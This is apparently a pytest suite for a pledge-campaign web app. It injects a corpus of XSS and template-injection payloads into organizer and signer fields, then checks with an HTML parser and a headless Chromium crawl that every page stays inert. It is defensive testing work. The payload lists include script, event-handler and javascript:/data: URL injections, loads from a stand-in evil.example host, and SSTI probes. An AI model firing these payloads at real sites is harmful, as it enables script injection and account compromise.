"""XSS: a payload corpus in every field an organizer or a signer controls, every page that shows
them parsed, and a real browser crawling those pages.

The organizer's fields go in through the real forms (titles, slugs, pledge text, conditions,
trustee names and emails, update titles and bodies, evidence links); the signer's fields (name,
role, statement) are sealed in a signer's "browser", revealed by two trustees' real partial
decryptions, and shown on the campaign page. Then:

- every HTML response met on the way, and every page of the world, is parsed with ``html.parser``:
  no inline script, no script from elsewhere, no event attribute, no ``javascript:``/``data:`` URL,
  no embedding element, no inline style, no template evaluated (``{{7*7}}`` never becomes 49);
- Chromium opens the public, staff and trustee pages: no CSP violation or other console error, no
  dialog (an ``alert`` that ran), no inline script in the live DOM, no request to another origin.
"""

from __future__ import annotations

import xml.etree.ElementTree as ET
from dataclasses import dataclass, field
from datetime import UTC, datetime, timedelta
from html.parser import HTMLParser
from urllib.parse import quote, urlsplit

import pytest
from sqlalchemy import select

from pledge import create_app
from pledge.database import write_intent
from pledge.extensions import db
from pledge.models import Campaign, CampaignState, IssuanceCount, Role, utcnow
from pledge.services import trustees as seats
from tests.adversarial import kit
from tests.browser import live_server
from tests.ceremony_kit import FakeTrustee
from tests.kit.config import make_config
from tests.kit.ticks import publish_due
from tests.mailsink import MailSink
from tests.signing_kit import Signer

# Template injection sentinels: ``x{{7*7}}x`` must never come out as ``x49x``.
EVALUATED = ("x49x", "x7777777x")

PAYLOADS = [
    "<script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script src=https://evil.example/x.js></script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<a href=javascript:alert(1)>click</a>",
    "<a href='JaVaScRiPt:alert(1)'>click</a>",
    "<a href='&#106;avascript:alert(1)'>click</a>",
    "<a href='java\tscript:alert(1)'>click</a>",
    "<form action=javascript:alert(1)><button>go</button></form>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<base href=https://evil.example/>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>body{background:url(https://evil.example/x)}</style>",
    "<div style=background:url(javascript:alert(1))>styled</div>",
    "\" onmouseover=\"alert(1)\" x=\"",
    "' onfocus='alert(1)' autofocus='",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "]]><script>alert(1)</script>",
    "<!--<script>alert(1)//-->",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">data</a>",
    "[click](javascript:alert(1))",
    "[click](JAVASCRIPT:alert(1))",
    "[click](&#x6A;avascript:alert(1))",
    "[click](<javascript:alert(1)>)",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[click](vbscript:msgbox(1))",
    "[ref link][r]\n\n[r]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "![image](https://evil.example/x.png)",
    "![image](javascript:alert(1))",
    "[![image](https://evil.example/x.png)](https://evil.example/)",
    "x{{7*7}}x",
    "x{{ 7*'7' }}x",
    "x{% print(7*7) %}x",
    "x${7*7}x",
    "x#{7*7}x",
    "{{ config }}{{ self.__init__.__globals__ }}",
]

# Evidence links must be full http(s) URLs: these either are refused or stay inert in an href.
EVIDENCE = [
    "javascript:alert(1)", "JAVASCRIPT:alert(1)", " javascript:alert(1)", "javascript://evil.example/%0aalert(1)",
    "data:text/html,<script>alert(1)</script>", "vbscript:msgbox(1)", "https://evil.example/\"onmouseover=\"alert(1)",
    "https://evil.example/'><script>alert(1)</script>", "https://evil.example/#<svg/onload=alert(1)>",
    "http://evil.example/?x{{7*7}}x", "https:javascript:alert(1)", "//evil.example/",
]

URL_ATTRIBUTES = {"href", "src", "action", "formaction", "data", "poster", "background", "xlink:href", "srcset", "cite",
                  "ping", "srcdoc", "codebase", "manifest", "longdesc", "lowsrc", "dynsrc"}
RESOURCE_ATTRIBUTES = {"src", "data", "poster", "background", "srcset", "lowsrc", "dynsrc", "codebase"}
EMBEDDING = {"iframe", "frame", "frameset", "object", "embed", "applet", "base", "style", "svg", "math", "img", "video",
             "audio", "source", "track", "portal"}


def same_origin(url: str) -> bool:
    parts = urlsplit(url.strip())
    return not parts.scheme and not parts.netloc and url.strip().startswith("/") and not url.strip().startswith("//") \
        or (parts.scheme in ("http", "https") and parts.hostname in ("localhost", "127.0.0.1"))


def dangerous_scheme(value: str) -> bool:
    squashed = "".join(ch for ch in value if ch > " " and ch not in "\x7f").lower()
    return squashed.startswith(("javascript:", "vbscript:", "data:", "livescript:"))


class Audit(HTMLParser):
    """Everything in a page a browser could execute or fetch from elsewhere."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []
        self.scripts: list[str] = []
        self._in_script = False

    def handle_starttag(self, tag, attrs):
        attributes = {name.lower(): (value or "") for name, value in attrs}
        if tag == "script":
            src = attributes.get("src")
            if not src:
                self.problems.append("an inline <script>")
            elif not same_origin(src) or not src.startswith("/static/"):
                self.problems.append(f"a script from {src!r}")
            else:
                self.scripts.append(src)
        if tag in EMBEDDING:
            self.problems.append(f"a <{tag}> element")
        if tag == "meta" and "http-equiv" in attributes:
            self.problems.append(f"<meta http-equiv={attributes['http-equiv']!r}>")
        if tag == "link" and not same_origin(attributes.get("href", "")):
            self.problems.append(f"<link href={attributes.get('href')!r}>")
        if tag == "form" and attributes.get("action") and not same_origin(attributes["action"]):
            self.problems.append(f"a form posting to {attributes['action']!r}")
        for name, value in attributes.items():
            if name.startswith("on"):
                self.problems.append(f"<{tag} {name}=...>")
            if name == "style":
                self.problems.append(f"<{tag} style=...>")
            if name in URL_ATTRIBUTES and dangerous_scheme(value):
                self.problems.append(f"<{tag} {name}={value!r}>")
            if name in RESOURCE_ATTRIBUTES and value and not same_origin(value):
                self.problems.append(f"<{tag} {name}={value!r}> fetches from elsewhere")

    handle_startendtag = handle_starttag


def audit(html: str) -> list[str]:
    parser = Audit()
    parser.feed(html)
    parser.close()
    problems = list(parser.problems)
    problems += [f"a template ran: {marker}" for marker in EVALUATED if marker in html]
    return problems


# --- the world ---------------------------------------------------------------------------------


@dataclass
class XssWorld:
    app: object
    pages: list[tuple[str, str]]  # (what, html) of every HTML response met while building
    owner: kit.Person
    trustee: kit.Person
    admin: kit.Person
    public_urls: list[str] = field(default_factory=list)
    owner_urls: list[str] = field(default_factory=list)
    trustee_urls: list[str] = field(default_factory=list)
    admin_urls: list[str] = field(default_factory=list)
    invitation_url: str = ""
    feed_url: str = ""
    revealed_slug: str = ""


def title_of(payload: str) -> str:
    """Titles need 3 to 200 characters once whitespace is collapsed."""
    return payload if len(" ".join(payload.split())) >= 3 else f"T: {payload}"


class Recorder:
    """A client that keeps every HTML page it receives."""

    def __init__(self, client, pages, label):
        self.client, self.pages, self.label = client, pages, label
        self.token = None

    def _keep(self, what, response):
        if response.mimetype == "text/html":
            self.pages.append((f"{self.label} {what} -> {response.status_code}", response.get_data(as_text=True)))
        return response

    def get(self, url):
        return self._keep(f"GET {url}", self.client.get(url))

    def post(self, url, data, follow=True):
        self.token = self.token or kit.token_of(self.client, "/")
        form = {**data, "csrf_token": self.token}
        return self._keep(f"POST {url}", self.client.post(url, data=form, follow_redirects=follow))


def deadline_text() -> str:
    return (datetime.now(UTC) + timedelta(days=30)).strftime("%Y-%m-%dT%H:%M")


def build(app) -> XssWorld:
    pages: list[tuple[str, str]] = []
    labs = kit.labs_by_slug()
    owner_user, owner_pw = kit.new_user(Role.ORGANIZER, email="owner@staff.example", name="<script>alert(1)</script>")
    admin_user, admin_pw = kit.new_user(Role.ADMIN, email="admin@staff.example", name="Admin")
    owner = Recorder(app.test_client(), pages, "owner")
    assert kit.login(owner.client, "owner@staff.example", owner_pw).status_code == 302
    everything = "\n\n".join(PAYLOADS)
    lab_ids = [str(labs["anthropic"].id), str(labs["openai"].id)]

    # Drafts through the form: one per payload as title (the pledge text holds the whole corpus).
    draft_ids = []
    for i, payload in enumerate(PAYLOADS):
        response = owner.post("/organize/campaigns/new", {
            "title": title_of(payload), "slug": f"xss-draft-{i}", "pledge_text": f"{payload}\n\n{everything}",
            "labs": lab_ids, "min_total": "100", "min_per_lab": "0", "min_labs": "0", "deadline": deadline_text(),
            "trustee_count": "15", "trustee_quorum": "8", "suppress_below": "5", "batch_interval_seconds": "3600"})
        assert response.status_code == 200 and "/conditions" in response.request.path, (payload, response.status_code)
        draft_ids.append(int(response.request.path.split("/")[3]))
    # A payload is never a slug: refused, and the form shows it back.
    for payload in PAYLOADS[:12]:
        refused = owner.post("/organize/campaigns/new", {
            "title": "Slug test", "slug": payload, "pledge_text": "x", "labs": lab_ids, "min_total": "100",
            "min_per_lab": "0", "min_labs": "0", "deadline": deadline_text(), "trustee_count": "3",
            "trustee_quorum": "2", "suppress_below": "5", "batch_interval_seconds": "3600"})
        assert refused.status_code == 400, payload
    for i, payload in enumerate(PAYLOADS):  # at most 20 conditions a pledge
        assert owner.post(f"/organize/campaigns/{draft_ids[i // 20]}/conditions", {"text": payload}).status_code == 200
    # Trustee names through the invitation form, 15 seats a draft; bad emails are refused and shown back.
    for i, payload in enumerate(PAYLOADS):
        draft = draft_ids[i // 15]
        owner.post(f"/organize/campaigns/{draft}/trustees", {"name": payload, "email": f"inv{i}@trustees.example"})
    for payload in PAYLOADS[:12]:
        owner.post(f"/organize/campaigns/{draft_ids[-1]}/trustees", {"name": "Someone", "email": payload})
    # Edits of a draft re-render the form with every payload in its inputs.
    owner.post(f"/organize/campaigns/{draft_ids[1]}/edit", {"title": "", "slug": "", "pledge_text": everything})

    # Open campaigns, one per payload as title, text and condition (written directly).
    open_slugs = []
    for i, payload in enumerate(PAYLOADS):
        campaign = kit.insert_campaign(owner_user, labs, state=CampaignState.OPEN, title=payload, slug=f"xss-open-{i}",
                                       pledge_text=payload, conditions=(payload,))
        open_slugs.append(campaign.slug)

    # Campaigns frozen for their ceremony with payload trustee names (shown publicly once frozen);
    # the crawled trustee holds seat 1 of each.
    trustee_email = "xss-trustee@trustees.example"
    frozen_slugs, frozen_ids = [], []
    chunks = [PAYLOADS[i:i + 14] for i in range(0, len(PAYLOADS), 14)]
    for n, chunk in enumerate(chunks):
        people = [FakeTrustee("Crawled Trustee", trustee_email)] + [
            FakeTrustee(name, f"f{n}-{i}@trustees.example") for i, name in enumerate(chunk)]
        campaign = kit.insert_campaign(owner_user, labs, title=chunk[0], lab_slugs=("anthropic",),
                                       trustee_count=len(people), trustee_quorum=len(people) // 2 + 1,
                                       conditions=tuple(chunk))
        kit.seat_people(campaign, people)
        kit.freeze(app, campaign)
        frozen_slugs.append(campaign.slug)
        frozen_ids.append(campaign.id)

    # A campaign launched through a real ceremony (trustees named with payloads), signed by
    # signers whose name, role and statement are payloads, and revealed by two trustees.
    people = [FakeTrustee(PAYLOADS[0], trustee_email), FakeTrustee(PAYLOADS[3], "rv2@trustees.example"),
              FakeTrustee(PAYLOADS[24], "rv3@trustees.example")]
    revealed, revealed_seats = kit.launched_campaign(
        app, owner_user, labs, people, title=PAYLOADS[25], pledge_text=everything, conditions=tuple(PAYLOADS[:10]),
        slug="xss-revealed")
    signer_client = app.test_client()
    for i, payload in enumerate(PAYLOADS):
        lab = ("anthropic", "openai")[i % 2]
        signer = Signer(revealed, lab, app.config["TOKEN_KEY_SECRET"], name=payload,
                        role=PAYLOADS[(i + 1) % len(PAYLOADS)], statement=PAYLOADS[(i + 2) % len(PAYLOADS)],
                        display="anonymous" if i == 5 else "name")
        assert kit.submit(signer_client, revealed, signer).status_code == 201
    publish_due(app, hours=2)
    assert kit.post_partials(revealed, people, revealed_seats, 1, 2), "the round did not open"
    publish_due(app, hours=3)  # the round-revealed event: judgements may follow it
    # Updates and evidence links through the outcomes form.
    outcomes = f"/organize/campaigns/{revealed.id}/outcomes"
    for payload in PAYLOADS:
        owner.post(outcomes, {"update-title": title_of(payload), "update-body": payload, "update-submit": "1"})
    cells = [(c.id, lab.id) for c in revealed.conditions for lab in (labs["anthropic"], labs["openai"])]
    accepted = []
    for (condition_id, lab_id), url in zip(cells, EVIDENCE):
        response = owner.post(outcomes, {"status-condition_id": str(condition_id), "status-lab_id": str(lab_id),
                                         "status-status": "met", "status-decided_on": "2026-01-02",
                                         "status-evidence_url": url, "status-note": url, "status-submit": "1"})
        if "Judgement recorded" in response.get_data(as_text=True):
            accepted.append(url)
    publish_due(app, hours=4)  # the judgements join the log, and the campaign page
    # Hostile but well-formed http(s) links are stored, so their rendering is tested too.
    assert not any(dangerous_scheme(url) for url in accepted) and len(accepted) >= 3, accepted

    # Issuance counters and an alarm, so the admin page lists payload titles.
    with write_intent():
        for slug in open_slugs[:20]:
            campaign = db.session.scalar(select(Campaign).where(Campaign.slug == slug))
            db.session.add(IssuanceCount(campaign_id=campaign.id, lab_id=labs["anthropic"].id, day=utcnow().date(),
                                         issued=3, alarmed=True))
            campaign.issuance_alarm_at = utcnow()
        db.session.commit()

    # An invitation still open, with a payload name, for the anonymous invitation page.
    with write_intent():
        draft = db.session.get(Campaign, draft_ids[-1])
        invitation = seats.invite_trustee(db.session, draft, name=PAYLOADS[4], email="open-invite@trustees.example",
                                          now=utcnow())
        db.session.commit()

    world = XssWorld(app=app, pages=pages, owner=kit.Person("owner@staff.example", owner_pw),
                     trustee=kit.Person(trustee_email, kit.TRUSTEE_PASSWORD),
                     admin=kit.Person("admin@staff.example", admin_pw), revealed_slug=revealed.slug)
    world.public_urls = ["/", "/about", "/verify", f"/campaigns/{revealed.slug}", f"/campaigns/{revealed.slug}/sign",
                         f"/campaigns/{revealed.slug}/receipt"] + [f"/campaigns/{s}" for s in frozen_slugs + open_slugs] \
        + ["/login?next=" + quote(p, safe="") for p in ("//evil.example", "\"><script>alert(1)</script>")]
    world.invitation_url = f"/trustee/invitations/{invitation.secret}"
    world.feed_url = f"/campaigns/{revealed.slug}/updates.atom"
    world.owner_urls = ["/organize/"] + [f"/organize/campaigns/{d}/{page}" for d in draft_ids[:4]
                                         for page in ("edit", "conditions", "preview", "trustees")] \
        + [f"/organize/campaigns/{revealed.id}/{page}" for page in ("outcomes", "preview", "trustees")] \
        + [f"/organize/campaigns/{frozen_ids[0]}/{page}" for page in ("preview", "trustees")]
    world.trustee_urls = ["/trustee/"] + [f"/trustee/campaigns/{c}/keys" for c in frozen_ids[:2]] \
        + [f"/trustee/campaigns/{revealed.id}/keys"]
    world.admin_urls = ["/admin/issuance", "/organize/"]
    return world


@pytest.fixture(scope="module")
def world(migrated_db, tmp_path_factory):
    folder = tmp_path_factory.mktemp("xss")
    url = migrated_db.provision(folder)
    sink = MailSink(folder / "mail")
    app = create_app(make_config(folder, MAIL_PORT=sink.port, SQLALCHEMY_DATABASE_URI=url))
    kit.prepare(app)
    try:
        with app.app_context():
            yield build(app)
            db.session.remove()
            db.engine.dispose()
    finally:
        sink.stop()
        migrated_db.release(folder)


def _visit(client, urls) -> list[tuple[str, str]]:
    found = []
    for url in urls:
        response = client.get(url)
        assert response.status_code == 200, (url, response.status_code)
        found.append((f"GET {url}", response.get_data(as_text=True)))
    return found


def _logged_in(app, person):
    client = app.test_client()
    assert kit.login(client, person.email, person.password).status_code == 302
    return client


def test_the_corpus_is_broad():
    assert len(PAYLOADS) >= 25 and len(EVIDENCE) >= 10
    assert all(3 <= len(title_of(p)) <= 200 for p in PAYLOADS)
    kinds = ("<script", "onerror", "javascript:", "<svg", "<iframe", "<style", "&#", "{{7*7}}", "](", "![")
    assert all(any(kind in p for p in PAYLOADS) for kind in kinds)


def test_the_audit_catches_what_it_looks_for():
    for bad in ("<script>x</script>", "<script src='https://evil.example/x.js'></script>", "<a onclick=x>",
                "<a href=' java&#x09;script:x'>",
                "<img src=https://evil.example/x>", "<iframe>", "<p style='color:red'>", "x49x",
                "<form action='https://evil.example/'>", "<link rel=stylesheet href=//evil.example/x.css>"):
        assert audit(bad), bad
    assert audit("<script src='/static/js/sign.js'></script><a href='https://lab.example/'>x</a>") == []


def test_every_page_met_while_building_is_inert(world):
    assert len(world.pages) > 200
    failures = [f"{what}: {problem}" for what, html in world.pages for problem in audit(html)]
    assert failures == [], "\n".join(failures[:60])


def test_public_pages_are_inert(world):
    client = world.app.test_client()
    pages = _visit(client, world.public_urls + [world.invitation_url])
    failures = [f"{what}: {problem}" for what, html in pages for problem in audit(html)]
    assert failures == [], "\n".join(failures[:60])
    # The payloads are there, as text.
    page = dict(pages)[f"GET /campaigns/{world.revealed_slug}"]
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page and "The signatures" in page


def test_staff_and_trustee_pages_are_inert(world):
    pages = _visit(_logged_in(world.app, world.owner), world.owner_urls)
    pages += _visit(_logged_in(world.app, world.trustee), world.trustee_urls)
    pages += _visit(_logged_in(world.app, world.admin), world.admin_urls)
    failures = [f"{what}: {problem}" for what, html in pages for problem in audit(html)]
    assert failures == [], "\n".join(failures[:60])


def test_the_atom_feed_is_well_formed_and_its_html_inert(world):
    response = world.app.test_client().get(world.feed_url)
    root = ET.fromstring(response.get_data())
    atom = "{http://www.w3.org/2005/Atom}"
    assert all(element.tag.startswith(atom) for element in root.iter()), "an element outside the Atom namespace"
    entries = root.findall(f"{atom}entry")
    assert len(entries) == len(PAYLOADS)
    failures = []
    for entry in entries:
        content = entry.find(f"{atom}content")
        failures += audit(content.text or "") if content.get("type") == "html" else []
        title = entry.find(f"{atom}title")
        if title.get("type") in ("html", "xhtml"):
            failures += audit(title.text or "")
    assert failures == [], failures


# --- the real browser ---------------------------------------------------------------------------

CHECK_DOM = """() => {
    const urls = [...document.querySelectorAll('script[src]')].map(e => e.src)
        .concat([...document.querySelectorAll('link[href]')].map(e => e.href));
    return {
        inline: document.querySelectorAll('script:not([src])').length,
        handlers: [...document.querySelectorAll('*')]
            .filter(e => [...e.attributes].some(a => a.name.toLowerCase().startsWith('on'))).length,
        embedded: document.querySelectorAll('img, iframe, frame, object, embed, video, audio, svg, math, style, base').length,
        foreign: urls.filter(u => new URL(u, location.href).origin !== location.origin).length,
    };
}"""


def _crawl(page, base: str, urls: list[str], problems: list[str]) -> int:
    visited = 0
    for url in urls:
        problems_before = len(problems)
        response = page.goto(base + url, wait_until="load")
        assert response is not None and response.status == 200, (url, response and response.status)
        if url.endswith(("/sign", "/receipt", "/verify")):
            page.wait_for_load_state("networkidle")
        dom = page.evaluate(CHECK_DOM)
        if any(dom.values()):
            problems.append(f"live DOM {dom}")
        for i in range(problems_before, len(problems)):
            problems[i] = f"{url}: {problems[i]}"
        visited += 1
    return visited


def _watch(page, base: str, problems: list[str]) -> None:
    page.on("console", lambda msg: problems.append(f"console {msg.type}: {msg.text}")
            if msg.type in ("error", "warning") else None)
    page.on("pageerror", lambda error: problems.append(f"page error: {error}"))

    def dialog(d):
        problems.append(f"a dialog opened: {d.type} {d.message!r}")
        d.dismiss()

    page.on("dialog", dialog)
    page.on("request", lambda request: problems.append(f"request to another origin: {request.url}")
            if not request.url.startswith(base) and not request.url.startswith("data:") else None)


def test_a_real_browser_crawls_every_kind_of_page_without_a_violation(world, browser):
    app = world.app
    db.session.rollback()
    problems: list[str] = []
    visited = 0
    with live_server(app) as base:
        for who, urls in (("anonymous", world.public_urls[:12] + [world.invitation_url]),
                          ("owner", world.owner_urls), ("trustee", world.trustee_urls), ("admin", world.admin_urls)):
            context = browser.new_context()
            page = context.new_page()
            _watch(page, base, problems)
            try:
                if who != "anonymous":
                    person = getattr(world, who)
                    page.goto(f"{base}/login")
                    page.get_by_label("Email").fill(person.email)
                    page.get_by_label("Password").fill(person.password)
                    page.get_by_role("button", name="Log in").click()
                    page.wait_for_load_state("load")
                    assert "/login" not in page.url, f"{who} could not log in"
                visited += _crawl(page, base, urls, problems)
            finally:
                context.close()
    assert visited >= 30
    assert problems == [], "\n".join(problems[:40])
